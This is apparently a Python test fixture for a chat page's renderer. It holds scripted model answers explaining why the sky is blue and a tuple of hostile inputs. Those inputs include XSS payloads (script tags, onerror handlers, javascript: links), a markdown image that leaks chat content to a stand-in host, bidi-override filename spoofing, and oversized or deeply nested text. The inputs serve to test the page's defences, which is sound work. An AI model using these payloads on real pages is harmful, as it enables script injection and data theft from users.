"""What the scripted models of the page's tests write."""

LLAMA = """The sky is blue because air scatters short waves of light more than long ones.

- Sunlight has every colour.
- Blue light, near 450 nm, is scattered about **five times** as much as red light, near 700 nm.
- So blue light reaches the eye from the whole sky, and the rest comes straight from the sun.

This is Rayleigh scattering: its strength goes with $1/\\lambda^4$.
"""
QWEN = """Molecules of air are much smaller than the waves of light. They scatter each wave by

$$I \\propto \\frac{1}{\\lambda^4}$$

which a short program shows:

```python
def scattering(wave_nm: float) -> float:
    return (700 / wave_nm) ** 4

print(scattering(450))  # 5.9 times red
```

Violet is scattered even more. The sun sends less of it, and our eyes see it less well.
"""
NEMOTRON = """It is a common belief that the sky mirrors the sea. That is not so: the colour comes \
from the air itself, and it is there over deserts too.

At sunset the way through the air is longer, most of the blue light has left the ray, and what arrives \
is orange and red. On the moon there is no air, and the sky there is black by day.
"""
PROPOSALS = (LLAMA, QWEN, NEMOTRON)
ANSWER = """The sky is blue because **molecules of air scatter short waves of light far more than \
long ones**.

| colour | wave | scattered, against red |
| --- | --- | --- |
| red | 700 nm | 1.0 |
| green | 530 nm | 3.0 |
| blue | 450 nm | 5.9 |

Sunlight holds every colour. The blue part of it is sent in all directions by the air, so it comes to \
your eye from the whole sky. At sunset the light passes through much more air, has lost its blue, and \
looks red.
"""
WORDS = " ".join(
    f"Word number {n} of a long text, with *some* `code` in it." + ("\n\n" if n % 7 == 0 else "")
    for n in range(1, 260)
)
"""About a minute at 50 words a second."""
ELSEWHERE = "http://elsewhere.example"
"""A host that no page may ask for anything."""
HOSTILE = (
    f"""Hello <script>window.attacked = "script"</script>
<img src=x onerror="window.attacked='onerror'">
<svg onload="window.attacked='svg'"></svg> <iframe srcdoc="<script>parent.attacked='iframe'</script>">
</iframe> <form action="{ELSEWHERE}/form"><input name=q></form> <style>body {{ display: none }}</style>
<base href="{ELSEWHERE}/"> <meta http-equiv="refresh" content="0;url={ELSEWHERE}/meta">
<a href="javascript:window.attacked='link'">raw link</a> <object data="{ELSEWHERE}/object"></object>""",
    f"""![leak]({ELSEWHERE}/leak.png?chat=secret) <img src="{ELSEWHERE}/raw.png">
[run](javascript:window.attacked=1) [data](data:text/html,<script>1</script>) [vb](vbscript:x)
<link rel="stylesheet" href="{ELSEWHERE}/style.css">
<video src="{ELSEWHERE}/video.mp4" autoplay></video>
<audio src="{ELSEWHERE}/a.mp3"></audio> <div style="background: url({ELSEWHERE}/bg.png)">styled</div>
[a link]({ELSEWHERE}/page "onmouseover=alert(1)")""",
    "\u202egnp.exe\u202c and \u2066hidden\u2069 words, \u200bzero width, " + "a\u0301" * 50,
    "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)} \\htmlData{x=y}{z}$$ "
    "$\\includegraphics{http://elsewhere.example/m.png}$ $" + "\\frac{" * 200 + "$",
    "x" * 2_000_000,
    "```js\n<script>window.attacked='fence'</script>\n```\n" * 10_000,
    "> " * 5_000 + "deep\n\n" + "- " * 2_000 + "deeper\n\n" + "[" * 20_000 + "\n\n" + "*" * 30_001,
)
"""Texts that attack the page: scripts, requests to other hosts, characters that turn the direction of
text, formulas, a line of 2 MB, 10^4 fences of code, and deep nesting."""
